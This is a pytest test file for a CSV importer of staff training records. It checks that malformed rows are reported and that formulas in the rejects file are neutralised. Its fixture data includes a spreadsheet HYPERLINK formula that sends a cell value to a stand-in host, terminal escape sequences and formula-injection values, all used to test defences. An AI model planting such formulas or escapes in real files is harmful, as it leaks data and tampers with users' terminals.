"""A training file in which every row is wrong in its own way: each is listed once, with what must be said."""

from __future__ import annotations

import csv
from pathlib import Path

import pytest

from dxskills.errors import Refused, Unavailable, WrongUsage
from tests.exchange.office import Office, faults

FILE = """職員番号,研修名,受講日,終了日,結果,点数,時間,備考
00999999,リテラシー研修,2026-02-10,,修了,,,
2,リテラシー研修,2026-02-10,,修了,,,
,リテラシー研修,2026-02-10,,修了,,,
0000\u200b0001,リテラシー研修,2026-02-10,,修了,,,
00000001,リテラシイ研修,2026-02-10,,修了,,,
00000001,"=HYPERLINK(""http://example.invalid/?x=""&A2,""研修"")",2026-02-10,,修了,,,
00000001,リテラシー研修,令和5年2月30日,,修了,,,
00000001,リテラシー研修,03/04/2026,,修了,,,
00000001,リテラシー研修,平成31年5月1日,,修了,,,
00000001,リテラシー研修,46115,,修了,,,
00000001,リテラシー研修,,,修了,,,
00000001,リテラシー研修,2026-02-12,2026-02-10,修了,,,
00000001,リテラシー研修,2026-02-10,,終了,,,
00000001,セキュリティ研修,2026-02-10,,修了,優,,
00000001,リテラシー研修,2026-02-10,,修了,,半日,
00000002,セキュリティ研修,2026-02-17,,修了,80,,
00000002,セキュリティ研修,2026-02-17,,修了,90,,
00000001,リテラシー研修,2026-02-10,,修了,,,\x1b[2J\x1b[31m要確認\x07
00000001,リテラシー研修,2026-02-18
00000001,リテラシー研修,2026-02-19,,修了,,,資料配布済,後日確認
"""
FAULTS = [
    (2, "職員番号", "unknown-staff"),
    (3, "職員番号", "unknown-staff"),
    (4, "職員番号", "missing-value"),
    (5, "職員番号", "bad-staff-number"),
    (6, "研修名", "unknown-training"),
    (7, "研修名", "unknown-training"),
    (8, "受講日", "bad-date"),
    (9, "受講日", "ambiguous-date"),
    (10, "受講日", "date-outside-era"),
    (11, "受講日", "bad-date"),
    (12, "受講日", "missing-value"),
    (13, "終了日", "end-before-start"),
    (14, "結果", "bad-outcome"),
    (15, "点数", "bad-number"),
    (16, "時間", "bad-number"),
    (17, "点数", "conflict"),
    (18, "点数", "conflict"),
    (19, "備考", "control-character"),
    (20, None, "column-count"),
    (21, None, "column-count"),
]


def test_every_bad_row_is_listed_once_and_nothing_is_written(office: Office) -> None:
    before = office.seq()
    result = office.take("trainings", FILE)
    assert faults(result) == FAULTS
    assert (result.refused, result.read, result.added, result.rejected, result.batch) == (True, 20, 0, 20, None)
    assert office.seq() == before


def test_the_messages_say_what_may_be_meant(office: Office) -> None:
    by_row = {problem.row: problem for problem in office.take("trainings", FILE).problems}
    assert "Did you mean 00000002?" in by_row[3].message
    assert "リテラシー研修" in by_row[6].message
    assert by_row[7].value == '=HYPERLINK("http://example.invalid/?x="&A2,"研修")'
    assert "2019-04-30" in by_row[10].message
    assert "修了" in by_row[14].message
    assert "17, 18" in by_row[17].message
    assert by_row[20].value == "00000001,リテラシー研修,2026-02-18"


def test_no_message_carries_what_acts(office: Office) -> None:
    for problem in office.take("trainings", FILE).problems:
        shown = f"{problem.value}{problem.message}"
        assert "\x1b" not in shown
        assert "\x07" not in shown
        assert "\u200b" not in shown
    assert "<U+200B>" in str(office.take("trainings", FILE).problems[3].value)


def test_one_good_row_among_bad_ones_is_not_written_either(office: Office) -> None:
    before = office.seq()
    text = "職員番号,研修,受講日\n00000001,security,2026-06-01\n00000002,security,昨日\n"
    result = office.take("trainings", text)
    assert (result.added, result.rejected, result.refused) == (0, 1, True)
    assert office.seq() == before


def test_all_faults_of_a_row_are_listed_and_it_counts_once(office: Office) -> None:
    result = office.take("trainings", "職員番号,研修,受講日,点数\n9,nothing,昨日,優\n")
    assert [code for _row, _column, code in faults(result)] == [
        "unknown-staff",
        "unknown-training",
        "bad-date",
        "bad-number",
    ]
    assert result.rejected == 1


def test_the_result_is_a_document(office: Office) -> None:
    document = office.take("trainings", "職員番号,研修,受講日\n00000001,security,昨日\n").as_dict()
    assert list(document) == [
        *("schema", "kind", "read", "added", "unchanged", "updated", "rejected", "problems", "batch"),
    ]
    assert document["schema"] == "dxskills/import/1"
    (problem,) = document["problems"]
    assert list(problem) == ["file", "row", "column", "value", "code", "message"]
    assert (problem["row"], problem["column"], problem["value"]) == (2, "受講日", "昨日")


def test_a_row_that_is_at_fault_as_a_whole_has_a_blank_column_in_the_document(office: Office) -> None:
    (problem,) = office.take("trainings", "職員番号,研修,受講日\n00000001,security\n").as_dict()["problems"]
    assert (problem["row"], problem["column"], problem["code"]) == (2, "", "column-count")


# --- skipping what is wrong


def test_skipping_writes_the_good_rows_and_the_others_to_a_file(office: Office) -> None:
    text = "職員番号,研修,受講日,備考\n00000001,security,2026-06-01,a\n00000002,security,昨日,=1+1\n"
    result = office.take("trainings", text, skip_invalid=True)
    assert (result.added, result.rejected, result.refused) == (1, 1, False)
    assert result.rejects == (office.desk / "file.csv.rejects.csv",)
    content = result.rejects[0].read_bytes()
    assert content.startswith(b"\xef\xbb\xbf")
    header, row = csv.reader(content.decode("utf-8-sig").splitlines())
    assert header[1:] == ["職員番号", "研修", "受講日", "備考"]
    assert row[1:] == ["00000002", "security", "昨日", "'=1+1"]
    assert "bad-date" in row[0]
    assert "row 3" in row[0]


def test_mended_rejects_are_imported_as_if_they_had_been_right(office: Office) -> None:
    text = "職員番号,研修,受講日,備考\n00000002,security,昨日,=1+1\n"
    (rejects,) = office.take("trainings", text, skip_invalid=True).rejects
    mended = rejects.read_text(encoding="utf-8-sig").replace("昨日", "2026-06-01")
    result = office.take("trainings", office.file("\ufeff" + mended, "mended.csv"))
    assert (result.added, result.warnings) == (1, ())
    assert office.data("training.recorded")[0]["note"] == "=1+1"


def test_rejects_report_the_same_faults_again(office: Office, tmp_path: Path) -> None:
    rejects = tmp_path / "out.csv"
    first = office.take("trainings", FILE, skip_invalid=True, rejects=rejects)
    assert (first.added, first.rejected) == (0, 20)
    again = office.take("trainings", rejects)
    assert [(p.row, p.column, p.value, p.code) for p in again.problems] == [
        (p.row, p.column, p.value, p.code) for p in first.problems
    ]


def test_rejects_hold_no_live_formula(office: Office) -> None:
    (rejects,) = office.take("trainings", FILE, skip_invalid=True).rejects
    for row in csv.reader(rejects.read_text(encoding="utf-8-sig").splitlines()):
        assert not any(cell.lstrip().startswith(("=", "+", "-", "@")) for cell in row)


def test_a_file_that_cannot_be_written_keeps_everything_from_being_written(office: Office) -> None:
    before = office.seq()
    with pytest.raises(Unavailable):
        office.take("trainings", FILE, skip_invalid=True, rejects=office.desk / "no" / "such" / "folder.csv")
    assert office.seq() == before


def test_rejects_never_replace_the_file_itself(office: Office) -> None:
    path = office.file(FILE)
    with pytest.raises(WrongUsage):
        office.take("trainings", path, skip_invalid=True, rejects=path)
    assert path.read_text(encoding="utf-8") == FILE


def test_rejects_never_replace_another_file_of_the_same_import(office: Office) -> None:
    first, second = office.file(FILE, "a.csv"), office.file(FILE, "a.csv.rejects.csv")
    with pytest.raises(WrongUsage):
        office.take("trainings", first, second, skip_invalid=True)


def test_rejects_are_not_written_through_a_link(office: Office, tmp_path: Path) -> None:
    target = tmp_path / "elsewhere.csv"
    target.write_text("keep me", encoding="utf-8")
    link = tmp_path / "link.csv"
    try:
        link.symlink_to(target)
    except OSError:  # some systems let only administrators make links
        return
    with pytest.raises(Refused) as refusal:
        office.take("trainings", FILE, skip_invalid=True, rejects=link)
    assert refusal.value.code == "bad-output"
    assert target.read_text(encoding="utf-8") == "keep me"


def test_a_dry_run_says_what_would_be_and_writes_nothing(office: Office) -> None:
    before, text = office.seq(), "職員番号,研修,受講日\n00000001,security,2026-06-01\n00000002,security,昨日\n"
    result = office.take("trainings", text, skip_invalid=True, dry_run=True)
    assert (result.added, result.rejected, result.batch) == (1, 1, None)
    assert office.seq() == before
    assert not list(office.desk.glob("*rejects*"))


def test_control_characters_are_refused_in_every_column_and_line_breaks_only_in_notes(office: Office) -> None:
    text = (
        "職員番号,研修,受講日,講師,備考,部署\n"
        '00000001,security,2026-06-01,,"一\n二",x\n'
        '00000001,security,2026-06-02,,,"総務\n部"\n'
        '"0000\n0001",security,2026-06-03,,,x\n'
        "00000001,security,2026-06-04,,,x\x00\n"
        "00000001,security\x85,2026-06-05,,,x\n"
    )
    result = office.take("trainings", text)
    assert faults(result) == [
        (4, "職員番号", "control-character"),
        (5, "部署", "control-character"),
        (6, "研修", "control-character"),
    ]


def test_rows_of_another_width_are_not_reported_for_anything_else(office: Office) -> None:
    result = office.take("trainings", "職員番号,研修,受講日\n,,,\n\n9\n9,x,y,z\n")
    assert faults(result) == [(4, None, "column-count"), (5, None, "column-count")]


def test_an_invisible_character_is_remarked_on_in_a_note_and_refused_in_a_name_of_something(office: Office) -> None:
    text = "職員番号,研修,受講日,備考\n00000001,security,2026-06-01,一\u200b二\n00000001,secu\u200brity,2026-06-02,\n"
    result = office.take("trainings", text)
    assert faults(result) == [(3, "研修", "unknown-training")]
    assert ["U+200B" in warning for warning in result.warnings] == [True]
